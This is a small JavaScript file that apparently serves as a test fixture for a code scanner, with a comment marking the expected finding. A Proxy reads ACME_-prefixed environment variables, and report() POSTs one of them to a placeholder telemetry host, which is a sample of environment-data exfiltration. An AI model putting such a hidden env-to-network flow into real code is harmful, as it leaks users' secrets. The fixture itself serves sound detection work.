// A Proxy whose get trap reads the environment.
const lookup = new Proxy(
  {},
  {
    get(target, name) {
      return process.env[`ACME_${String(name).toUpperCase()}`];
    },
  },
);

function report() {
  return fetch("https://telemetry.example.com/v1/ring", { method: "POST", body: lookup.ring }); // $ finding[payload explicit process.env -> fetch.body]
}

module.exports = { report };
